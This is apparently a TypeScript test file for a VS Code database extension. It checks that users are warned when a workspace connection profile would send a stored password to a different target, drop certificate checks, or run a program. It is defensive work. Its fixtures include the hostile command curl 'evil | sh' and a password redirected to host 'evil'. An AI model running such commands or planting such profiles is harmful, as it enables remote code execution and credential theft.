import assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import { connectionProfile, type ConnectionProfile } from '../../../src/database/profile.ts';
import { passwordTarget } from '../../../src/database/profileLook.ts';
import { concernsOf, fingerprintOf } from '../../../src/editor/connectionConcerns.ts';
import type { Scope } from '../../../src/editor/connectionScopes.ts';
import { Secrets } from '../../../src/editor/secrets.ts';

const profileWith = (more: object = {}): ConnectionProfile =>
  connectionProfile.parse({ id: 'a', name: 'A', host: 'db', database: 'd', user: 'u', ...more });
const stored = { password: 'secret', target: passwordTarget(profileWith()) };
const concerns = (more: object, scope: Scope, kept: typeof stored | undefined = stored): string[] =>
  concernsOf({ profile: profileWith(more), scope }, kept);

describe('what a connection needs a yes for', () => {
  it('is nothing when the password goes where it was stored for', () => {
    assert.deepEqual(concerns({}, 'workspace'), []);
    assert.deepEqual(concerns({ rowCap: 5, label: 'x' }, 'workspace'), []);
    assert.deepEqual(concernsOf({ profile: profileWith(), scope: 'workspace' }, undefined), []);
  });

  const redirections = [
    { host: 'evil' },
    { port: 5433 },
    { database: 'other' },
    { user: 'postgres' },
    { ssh: { host: 'evil', user: 'u' } },
  ];
  for (const change of redirections) {
    it(`is another target of a stored password: ${JSON.stringify(change)}`, () => {
      for (const scope of ['user', 'workspace'] as const) {
        const last = concerns(change, scope).at(-1) ?? '';
        assert.match(last, /^The password that was stored for u@db:5432\/d would be sent to /);
        assert.doesNotMatch(last, /secret/);
      }
    });
  }

  it('is a check of the certificate that is no longer made', () => {
    const checked = { password: 's', target: passwordTarget(profileWith({ tls: 'verify-full' })) };
    assert.equal(concerns({ tls: 'disable' }, 'workspace', checked).length, 1);
    assert.equal(concerns({ tls: 'verify-full' }, 'workspace', checked).length, 0);
  });

  it('is a program, or a host to sign in to, that a workspace names; the user’s own are not asked about', () => {
    const command = { passwordFrom: 'command', passwordCommand: ['curl', 'evil | sh'] };
    assert.deepEqual(concerns(command, 'workspace'), [
      'It runs a program to get the password: curl "evil | sh"',
    ]);
    assert.deepEqual(concerns(command, 'user'), []);
    const ssh = { ssh: { host: 'jump', user: 'me' }, passwordFrom: 'prompt' };
    assert.match(concerns(ssh, 'workspace').join(), /signs in to jump as me with your SSH agent/);
    assert.deepEqual(concerns(ssh, 'user'), []);
  });

  it('is asked again when any of it changes', () => {
    const of = (host: string): string => fingerprintOf('a', concerns({ host }, 'workspace'));
    assert.equal(of('evil'), of('evil'));
    assert.notEqual(of('evil'), of('worse'));
    assert.notEqual(of('evil'), fingerprintOf('b', concerns({ host: 'evil' }, 'workspace')));
  });

  it('is no question for a password of the user from before targets were kept, but for a workspace it is', () => {
    const old = { password: 'secret', target: undefined };
    const of = (scope: Scope): string[] => concernsOf({ profile: profileWith(), scope }, old);
    assert.deepEqual(of('user'), []);
    assert.match(of('workspace').join(), /stored for another connection/);
  });
});

describe('Secrets', () => {
  function memory(): { storage: vscode.SecretStorage; kept: Map<string, string> } {
    const kept = new Map<string, string>();
    const storage = {
      get: (key: string) => Promise.resolve(kept.get(key)),
      store: (key: string, value: string) => Promise.resolve(void kept.set(key, value)),
      delete: (key: string) => Promise.resolve(void kept.delete(key)),
    };
    return { storage: storage as unknown as vscode.SecretStorage, kept };
  }

  it('keeps a password with its target under its connection, and for no other', async () => {
    const { storage, kept } = memory();
    const secrets = new Secrets(storage);
    await secrets.setPassword('a', stored);
    assert.deepEqual(await secrets.password('a'), stored);
    assert.equal(await secrets.password('b'), undefined);
    await secrets.forget('a');
    assert.equal(kept.size, 0);
  });

  it('reads what was stored before targets were kept, also when it looks like JSON', async () => {
    const { storage, kept } = memory();
    for (const password of ['plain', '{"a":1}', '42']) {
      kept.set('password:a', password);
      assert.deepEqual(await new Secrets(storage).password('a'), { password, target: undefined });
    }
  });
});
